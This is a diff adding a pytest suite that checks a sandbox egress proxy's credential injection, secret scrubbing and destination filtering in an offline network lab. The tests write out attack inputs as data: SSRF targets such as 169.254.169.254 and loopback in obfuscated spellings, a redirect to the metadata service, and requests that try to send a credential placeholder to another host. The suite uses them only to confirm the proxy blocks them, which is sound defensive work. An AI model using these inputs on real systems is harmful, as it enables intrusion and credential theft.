@@ -1,0 +1,443 @@
+"""The egress proxy, attack by attack, with real TLS, a real DNS server and real clients
+(curl, raw sockets), in a namespace with no route out (tests/egress/lab.py).
+
+The "sandbox" holds only a placeholder; the upstream must receive the real key, and
+nothing the sandbox gets back may hold it. Every refused destination has a listener that
+records hits: a refusal that still reached it fails the test.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+
+from gigmcp.credentials.definitions import parse_credentials, parse_egress
+from gigmcp.credentials.vault_provider import InstanceCredentials, Sealed
+from gigmcp.egress.audit import EgressAudit
+from gigmcp.egress.certs import CertificateAuthority, LeafCache, upstream_context
+from gigmcp.egress.proxy import EgressProxy, ProxyPorts
+from gigmcp.egress.resolver import DnsResolver
+from gigmcp.sandbox.identity import Identity, SourceTable
+from gigmcp.store.db import make_engine, migrate
+from gigmcp.store.models import EgressAuditRow
+from gigmcp.store.views import ServerDef
+from gigmcp.upstream.types import InstanceKey
+from tests.egress.lab import OTHER_SANDBOX_IP, PROXY_IP, SANDBOX_IP, Lab, lab
+
+pytestmark = pytest.mark.root
+
+KEY = InstanceKey(1, "api")
+REAL = "sk_live_REALKEY_0123456789abcdefghijKLMN"
+PORTS = ProxyPorts(3128, 3129, 3130)
+EGRESS = {
+    "hosts": ["api.example.test", "other.example.test", "internal.example.test",
+              "private.example.test", "metadata.example.test", "mixed.example.test",
+              "v6internal.example.test", "nx.example.test", "mixed-dead.example.test"],
+    "ports": [443, 80],
+}  # fmt: skip
+CREDS = [
+    {
+        "id": "api_key",
+        "type": "api_key",
+        "inject": {"header": "Authorization", "format": "Bearer {token}"},
+        "env": "API_KEY",
+        "hosts": ["api.example.test"],
+    }
+]
+
+
+@dataclass
+class World:
+    lab: Lab
+    proxy: EgressProxy
+    placeholder: str
+    gateway_ca: Path
+    db: Path
+    grants: dict[InstanceKey, InstanceCredentials]
+
+    async def curl(self, *args: str, source: str = SANDBOX_IP) -> tuple[int, str, str]:
+        """curl through the explicit proxy; returns (HTTP status, body, stderr)."""
+        proc = await asyncio.create_subprocess_exec(
+            "curl", "-sS", "--max-time", "10", "--interface", source,
+            "--proxy", f"http://{PROXY_IP}:{PORTS.explicit}", "--cacert", str(self.gateway_ca),
+            "-w", "\n%{http_code}", *args,
+            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
+        )  # fmt: skip
+        out, err = await proc.communicate()
+        body, _, code = out.decode().rpartition("\n")
+        return int(code or 0), body, err.decode()
+
+    def audit_rows(self) -> list[EgressAuditRow]:
+        engine = make_engine(f"sqlite:///{self.db}")
+        with Session(engine) as s:
+            return list(s.scalars(select(EgressAuditRow).order_by(EgressAuditRow.id)))
+
+
+@pytest.fixture(scope="module")
+def the_lab() -> Iterator[Lab]:
+    # One namespace for the module (it takes a second to build); hits reset per test.
+    with lab() as built:
+        yield built
+
+
+@pytest.fixture
+async def world(the_lab: Lab, tmp_path: Path) -> AsyncIterator[World]:
+    the_lab.reset()
+    if True:
+        egress = parse_egress(EGRESS)
+        creds = parse_credentials(CREDS, egress)
+        server = ServerDef(1, "api", 7, ("x",), egress=egress, credentials=creds)
+        placeholder = "gigmcp_ph_" + "P" * 30
+        grant = InstanceCredentials(KEY, 7, server, (Sealed(creds[0], placeholder, REAL.encode()),))
+        identities = SourceTable()
+        identities.add(Identity(KEY, "api", 1, 7, PROXY_IP, SANDBOX_IP, "lo"))
+        gateway_ca = CertificateAuthority.generate()
+        ca_file = tmp_path / "gateway-ca.pem"
+        ca_file.write_bytes(gateway_ca.cert_pem())
+        db = tmp_path / "audit.db"
+        engine = make_engine(f"sqlite:///{db}")
+        migrate(engine)
+        audit = EgressAudit(engine)
+        grants = {KEY: grant}
+        proxy = EgressProxy(
+            identities=identities,
+            grants=grants.get,
+            resolver=DnsResolver(the_lab.dns),
+            leaves=LeafCache(gateway_ca),
+            upstream_tls=upstream_context(the_lab.ca_pem),
+            audit=audit,
+            ports=PORTS,
+            bind="0.0.0.0",
+        )
+        await proxy.start()
+        try:
+            yield World(the_lab, proxy, placeholder, ca_file, db, grants)
+        finally:
+            await proxy.aclose()
+            await audit.aclose()
+            engine.dispose()
+
+
+def auth(world: World) -> list[str]:
+    return ["-H", f"Authorization: Bearer {world.placeholder}"]
+
+
+# -- the credential path -----------------------------------------------------------------
+
+
+async def test_the_upstream_gets_the_real_key_and_the_sandbox_never_sees_it(world: World) -> None:
+    status, body, err = await world.curl(*auth(world), "https://api.example.test/v1/things?q=1")
+    assert status == 200, err
+    hits = world.lab.hits_on("11.0.0.1")
+    assert len(hits) == 1 and hits[0].headers["authorization"] == f"Bearer {REAL}"
+    # The upstream reflected every header back: the key came back, and was scrubbed.
+    assert REAL not in body
+    assert json.loads(body)["headers"]["authorization"] == f"Bearer {world.placeholder}"
+
+
+async def test_attack_an_upstream_echoing_the_key_in_every_spelling_is_scrubbed(
+    world: World,
+) -> None:
+    status, body, _ = await world.curl(*auth(world), "-D", "-", "https://api.example.test/echo-key")
+    assert status == 200
+    import base64
+    import urllib.parse
+
+    for form in (REAL, base64.b64encode(REAL.encode()).decode(), urllib.parse.quote(REAL, safe="")):
+        assert form not in body, form
+    assert world.placeholder in body
+    assert f"x-echo: {world.placeholder}" in body.lower().replace(
+        world.placeholder.lower(), world.placeholder
+    )
+
+
+async def test_a_compressed_echo_is_decompressed_to_be_scrubbed(world: World) -> None:
+    status, body, _ = await world.curl(
+        *auth(world), "--compressed", "https://api.example.test/echo-key-gzip"
+    )
+    assert status == 200
+    assert REAL not in body and f"gz:{world.placeholder}" in body
+    assert world.lab.hits_on("11.0.0.1")[0].headers.get("accept-encoding") == "identity"
+
+
+async def test_attack_the_placeholder_sent_to_another_allowed_host_is_blocked(world: World) -> None:
+    status, body, _ = await world.curl(*auth(world), "https://other.example.test/collect")
+    assert status == 403 and json.loads(body)["reason"] == "placeholder-exfiltration"
+    assert world.lab.hits_on("11.0.0.2") == []
+    # ... also in the URL, and in a body.
+    status, _, _ = await world.curl(f"https://other.example.test/c?k={world.placeholder}")
+    assert status == 403
+    status, _, _ = await world.curl(
+        "--data-binary", f"x={world.placeholder}", "https://other.example.test/c"
+    )
+    assert status == 403
+    await world.proxy.audit.flush()
+    rows = [r for r in world.audit_rows() if r.reason == "placeholder-exfiltration"]
+    assert len(rows) == 3 and {r.credential for r in rows} == {"api_key"}
+
+
+async def test_without_the_placeholder_other_hosts_work_and_get_no_key(world: World) -> None:
+    status, _body, _ = await world.curl("https://other.example.test/ok")
+    assert status == 200
+    assert "authorization" not in world.lab.hits_on("11.0.0.2")[0].headers
+
+
+# -- where a sandbox may go --------------------------------------------------------------
+
+
+async def test_attack_a_host_outside_the_allowlist_is_refused_before_any_tls(world: World) -> None:
+    status, _body, err = await world.curl("https://evil.example.test/")
+    assert status in (0, 403), err  # curl reports the CONNECT refusal
+    assert world.lab.hits_on("11.0.0.3") == []
+    await world.proxy.audit.flush()
+    assert any(
+        r.reason == "host-not-allowed" and r.host == "evil.example.test" for r in world.audit_rows()
+    )
+    assert world.proxy.leaves.mints == 0, "no certificate was minted for a refused host"
+
+
+async def test_attack_a_port_the_manifest_does_not_allow_is_refused(world: World) -> None:
+    status, _, _ = await world.curl("https://api.example.test:8443/")
+    assert status in (0, 403)
+    assert [h for h in world.lab.hits if h.port == 8443] == []
+
+
+@pytest.mark.parametrize("scheme", ["http", "https"])
+@pytest.mark.parametrize("name", ["internal", "private", "metadata", "v6internal"])
+async def test_attack_names_that_resolve_to_internal_addresses_are_refused(
+    world: World, name: str, scheme: str
+) -> None:
+    status, body, _ = await world.curl(f"{scheme}://{name}.example.test/")
+    assert status in (0, 403, 502)
+    assert world.lab.internal_hits() == []
+    if scheme == "http":
+        assert json.loads(body)["reason"] == "ssrf-blocked"
+
+
+async def test_attack_a_name_with_an_internal_answer_beside_a_dead_public_one(
+    world: World,
+) -> None:
+    status, body, _ = await world.curl("http://mixed-dead.example.test/")
+    assert status == 502 and json.loads(body)["reason"] == "connect-failed"
+    assert world.lab.internal_hits() == []
+
+
+async def test_with_several_answers_only_the_vetted_ones_are_dialled(world: World) -> None:
+    _status, _, err = await world.curl("http://mixed.example.test/")
+    # mixed.example.test answers 127.0.0.1 and 11.0.0.1 (which serves other names too).
+    assert world.lab.internal_hits() == []
+    assert [h.host for h in world.lab.hits] == ["11.0.0.1"], err
+
+
+async def test_attack_a_redirect_to_the_metadata_service_is_not_followed_by_the_proxy(
+    world: World,
+) -> None:
+    status, _, _ = await world.curl(
+        "-L", "http://api.example.test/redirect?to=http://169.254.169.254/latest/"
+    )
+    assert status in (0, 403)
+    assert world.lab.internal_hits() == []
+    assert [h.path for h in world.lab.hits] == ["/redirect"]
+
+
+async def raw(request: bytes, source: str = SANDBOX_IP, port: int = PORTS.explicit) -> bytes:
+    """A hand-written request from a client that does not play by the rules."""
+    reader, writer = await asyncio.open_connection(PROXY_IP, port, local_addr=(source, 0))
+    writer.write(request)
+    await writer.drain()
+    try:
+        async with asyncio.timeout(5):
+            return await reader.read(65536)
+    except ConnectionResetError:
+        return b""  # closed without a word (with our request unread: a reset)
+    finally:
+        writer.close()
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["127.0.0.1:443", "2130706433:443", "0x7f.1:443", "0177.0.0.1:443", "[::1]:443",
+     "[::ffff:127.0.0.1]:443", "169.254.169.254:443", "0xa9fea9fe:443", "10.99.9.9:443",
+     "11.0.0.1:443", "localhost:443"],
+)  # fmt: skip
+async def test_attack_connect_to_ip_literals_in_every_spelling_is_refused(
+    world: World, target: str
+) -> None:
+    answer = await raw(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    assert answer.startswith(b"HTTP/1.1 403") or answer.startswith(b"HTTP/1.1 400"), answer[:80]
+    assert world.lab.hits == []
+
+
+async def test_attack_an_unknown_source_gets_nothing(world: World) -> None:
+    answer = await raw(b"CONNECT api.example.test:443 HTTP/1.1\r\n\r\n", source=OTHER_SANDBOX_IP)
+    assert answer == b""
+    await world.proxy.audit.flush()
+    assert any(r.reason == "unknown-source" for r in world.audit_rows())
+
+
+async def test_attack_garbage_instead_of_a_request_gets_400(world: World) -> None:
+    answer = await raw(b"\x00\x01\x02 not http at all\r\n\r\n")
+    assert answer.startswith(b"HTTP/1.1 400")
+
+
+async def test_attack_requests_aimed_at_the_proxy_itself_are_refused(world: World) -> None:
+    answer = await raw(b"GET /admin HTTP/1.1\r\nHost: 10.99.0.1:3128\r\n\r\n")
+    assert answer.startswith(b"HTTP/1.1 403") and b"proxy-itself" in answer
+
+
+async def test_attack_host_header_that_differs_from_the_tunnel_is_refused(world: World) -> None:
+    status, body, _ = await world.curl(
+        *auth(world), "-H", "Host: other.example.test", "https://api.example.test/"
+    )
+    assert status == 421 and json.loads(body)["reason"] == "host-mismatch"
+    assert world.lab.hits == []
+
+
+async def test_attack_sni_that_differs_from_the_connect_target_gets_no_tls(world: World) -> None:
+    status, _, err = await world.curl(
+        "--connect-to", "other.example.test:443:api.example.test:443", "https://other.example.test/"
+    )
+    # curl asks CONNECT api..., then says other... in its ClientHello: refused.
+    assert status == 0 or status == 403, err
+    assert world.lab.hits == []
+
+
+async def test_attack_not_http_inside_a_tunnel_is_refused(world: World) -> None:
+    answer = await raw(
+        b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n"
+        b"SSH-2.0-OpenSSH_9.2\r\n\r\n"
+    )
+    assert answer.startswith(b"HTTP/1.1 200")
+    assert b"HTTP/1.1 400" in answer
+    assert world.lab.hits == []
+
+
+async def test_an_upstream_cannot_forge_the_proxys_answer_headers(world: World) -> None:
+    _status, out, _ = await world.curl("-D", "-", "https://api.example.test/forge")
+    assert out.startswith("HTTP/1.1 200")
+    assert "x-gigmcp" not in out.lower()
+
+
+async def test_proxy_only_and_hop_by_hop_headers_never_reach_the_upstream(world: World) -> None:
+    status, _, _ = await world.curl(
+        "-H", "Proxy-Authorization: Basic c2VjcmV0", "-H", "Proxy-Connection: keep-alive",
+        "-H", "Connection: close, X-Hop", "-H", "X-Hop: 1", "-H", "X-Gigmcp-Denied: forged",
+        "http://api.example.test/h",
+    )  # fmt: skip
+    assert status == 200
+    seen = world.lab.hits[0].headers
+    for name in ("proxy-authorization", "proxy-connection", "x-hop", "x-gigmcp-denied"):
+        assert name not in seen, name
+
+
+async def test_attack_oversized_headers_are_refused(world: World) -> None:
+    big = b"X-Big: " + b"a" * (100 * 1024) + b"\r\n"
+    answer = await raw(
+        b"GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\n" + big + b"\r\n"
+    )
+    assert answer.startswith(b"HTTP/1.1 431") or answer.startswith(b"HTTP/1.1 400"), answer[:40]
+    assert world.lab.hits == []
+
+
+async def test_attack_another_instance_cannot_use_this_ones_credential(world: World) -> None:
+    # A second instance (profile 2) of a server with no credentials, sending the first
+    # instance's placeholder toward the credential's own host: no value is injected.
+    other = InstanceKey(2, "api")
+    bare = ServerDef(2, "api", 8, ("x",), egress=parse_egress(EGRESS))
+    world.proxy.identities.add(Identity(other, "api", 2, 8, PROXY_IP, OTHER_SANDBOX_IP, "lo"))
+    world.grants[other] = InstanceCredentials(other, 8, bare, ())
+    status, body, _ = await world.curl(
+        *auth(world), "https://api.example.test/steal", source=OTHER_SANDBOX_IP
+    )
+    assert status == 200
+    assert world.lab.hits[0].headers["authorization"] == f"Bearer {world.placeholder}"
+    assert REAL not in body
+
+
+async def test_websocket_upgrades_get_the_key_and_relay_scrubbed(world: World) -> None:
+    reader, writer = await asyncio.open_connection(PROXY_IP, PORTS.http, local_addr=(SANDBOX_IP, 0))
+    writer.write(
+        b"GET /ws HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n"
+        b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+        b"Sec-WebSocket-Version: 13\r\nAuthorization: Bearer "
+        + world.placeholder.encode()
+        + b"\r\n\r\n"
+    )
+    await writer.drain()
+    async with asyncio.timeout(5):
+        head = await reader.readuntil(b"\r\n\r\n")
+        assert head.startswith(b"HTTP/1.1 101")
+        line = await reader.readuntil(b"\n")
+        assert line == b"ws-auth:" + world.placeholder.encode() + b"\n"  # the real key, scrubbed
+        writer.write(b"ping")
+        await writer.drain()
+        assert await reader.readexactly(9) == b"echo:ping"
+    writer.close()
+    assert world.lab.hits[0].headers["authorization"] == f"Bearer {REAL}"
+
+
+# -- transparent mode --------------------------------------------------------------------
+
+
+async def test_transparent_tls_takes_the_destination_from_sni(world: World) -> None:
+    proc = await asyncio.create_subprocess_exec(
+        "curl", "-sS", "--interface", SANDBOX_IP, "--cacert", str(world.gateway_ca),
+        "--connect-to", f"api.example.test:443:{PROXY_IP}:{PORTS.tls}",
+        "-H", f"Authorization: Bearer {world.placeholder}", "https://api.example.test/t",
+        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
+    )  # fmt: skip
+    out, err = await proc.communicate()
+    assert proc.returncode == 0, err
+    assert world.lab.hits_on("11.0.0.1")[0].headers["authorization"] == f"Bearer {REAL}"
+    assert REAL not in out.decode()
+
+
+async def test_transparent_http_takes_the_destination_from_host(world: World) -> None:
+    answer = await raw(
+        b"GET /plain HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
+        port=PORTS.http,
+    )
+    assert answer.startswith(b"HTTP/1.1 200")
+    answer = await raw(b"GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n", port=PORTS.http)
+    assert answer.startswith(b"HTTP/1.1 403")
+    assert [h.path for h in world.lab.hits] == ["/plain"]
+
+
+# -- the audit trail ---------------------------------------------------------------------
+
+
+async def test_every_request_is_an_audit_row_without_query_or_secret(world: World) -> None:
+    await world.curl(*auth(world), "https://api.example.test/a/b?token=hunter2&x=1")
+    await world.curl("https://evil.example.test/")
+    await world.proxy.audit.flush()
+    rows = world.audit_rows()
+    ok = next(r for r in rows if r.decision == "allowed")
+    assert (ok.method, ok.host, ok.port, ok.path, ok.status) == (
+        "GET",
+        "api.example.test",
+        443,
+        "/a/b",
+        200,
+    )
+    assert ok.credential == "api_key" and ok.server == "api" and ok.owner_id == 7
+    assert ok.bytes_in > 0 and ok.duration_ms is not None
+    assert any(r.decision == "denied" and r.reason == "host-not-allowed" for r in rows)
+    raw_db = world.db.read_bytes() + b"".join(
+        p.read_bytes() for p in world.db.parent.glob("audit.db-*")
+    )
+    assert REAL.encode() not in raw_db and b"hunter2" not in raw_db
+
+
+async def test_keep_alive_reuses_upstream_connections(world: World) -> None:
+    urls = [f"https://api.example.test/k{i}" for i in range(5)]
+    status, _, err = await world.curl(*auth(world), *urls)
+    assert status == 200, err
+    assert len(world.lab.hits_on("11.0.0.1")) == 5
+    assert world.proxy.pool.reused >= 3
